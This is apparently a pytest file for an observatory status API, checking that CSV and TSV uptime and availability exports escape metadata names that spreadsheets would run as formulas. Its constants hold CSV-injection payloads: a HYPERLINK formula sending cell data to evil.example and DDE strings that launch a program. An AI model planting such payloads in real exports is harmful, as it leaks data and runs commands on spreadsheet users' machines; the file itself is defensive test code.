"""CSV and TSV exports neutralise metadata names a spreadsheet would run as formulas."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta

import pytest
from sqlalchemy.orm import Session

from api.factories import deployed, expected, history
from ooi_status import demo
from ooi_status.api import create_app, current_databases
from ooi_status.times import datetime_to_ntp

HOSTILE_REFDES = '=HYPERLINK("http://evil.example/?x="&A1,"CE02SHBP")'
HOSTILE_STREAM = "+cmd|' /C calc'!A0"
HOSTILE_METHOD = "@SUM(1+1)*cmd|' /C calc'!A0"
SAFE_REFDES = "CE02SHBP-LJ01D-06-CTDBPN106"


def _cells(response, delimiter: str = ",") -> list[list[str]]:  # type: ignore[no-untyped-def]
    assert response.status_code == 200, response.get_json()
    return list(csv.reader(io.StringIO(response.get_data(as_text=True)), delimiter=delimiter))


def _no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), row
            if cell.startswith("-"):
                float(cell)  # only a number may begin with a minus sign


@pytest.fixture
def report_client(api_settings, monitor_db, now: datetime):  # type: ignore[no-untyped-def]
    with Session(monitor_db.engine) as session, session.begin():
        hostile = deployed(
            session, HOSTILE_REFDES, expected(session, HOSTILE_STREAM, HOSTILE_METHOD), "failed"
        )
        history(session, hostile, [("notTracked", "failed", now - timedelta(days=2))])
        safe = deployed(session, SAFE_REFDES, expected(session, "ctdbp_no_sample"), "operational")
        history(session, safe, [("notTracked", "operational", now - timedelta(days=2))])
    app = create_app(api_settings, TESTING=True, CLOCK=lambda: now)
    yield app.test_client()
    with app.app_context():
        current_databases().dispose()


@pytest.mark.parametrize("group", ["instrument", "stream", "site", "node"])
def test_uptime_csv_quotes_formula_names(report_client, group):  # type: ignore[no-untyped-def]
    header, *rows = _cells(report_client.get(f"/report/uptime?format=csv&group={group}"))
    _no_formula(rows)
    by_refdes = {
        row["refdes"]: row for row in (dict(zip(header, r, strict=True)) for r in rows) if "refdes" in row
    }
    if group in ("instrument", "stream"):
        assert "'" + HOSTILE_REFDES in by_refdes and SAFE_REFDES in by_refdes
    if group == "stream":
        hostile = by_refdes["'" + HOSTILE_REFDES]
        assert (hostile["method"], hostile["stream"]) == ("'" + HOSTILE_METHOD, "'" + HOSTILE_STREAM)
        assert float(hostile["failed"]) > 0  # numbers as they were


START = datetime(2016, 1, 1, tzinfo=UTC)
NOW = START + timedelta(days=10)


@pytest.fixture
def available_client(settings, empty_metadata_db):  # type: ignore[no-untyped-def]
    obs = demo.Observatory()
    obs.add_deployment(SAFE_REFDES, 1, START, None, "CGINS-CTDBPO-00001")
    day = 86_400
    ntp = datetime_to_ntp(START)
    bins = [(int(ntp + k * day), 86_400, ntp + k * day + 60, ntp + k * day + day - 60) for k in range(5)]
    obs.add_stream(SAFE_REFDES, HOSTILE_METHOD, HOSTILE_STREAM, bins)
    demo.write_observatory(empty_metadata_db.engine, obs)
    app = create_app(settings.replace(METADATA_URL=empty_metadata_db.url), TESTING=True, CLOCK=lambda: NOW)
    yield app.test_client()
    with app.app_context():
        current_databases().dispose()


@pytest.mark.parametrize(("fmt", "delimiter"), [("csv", ","), ("tsv", "\t")])
def test_availability_export_quotes_formula_names(available_client, fmt, delimiter):  # type: ignore[no-untyped-def]
    query = f"/available/{SAFE_REFDES}?format={fmt}&method={HOSTILE_METHOD}"
    header, *rows = _cells(available_client.get(query.replace("+", "%2B")), delimiter)
    assert header == ["measure", "start", "category", "stop"]
    _no_formula(rows)
    measures = {row[0] for row in rows}
    assert f"'{HOSTILE_METHOD} {HOSTILE_STREAM}" in measures
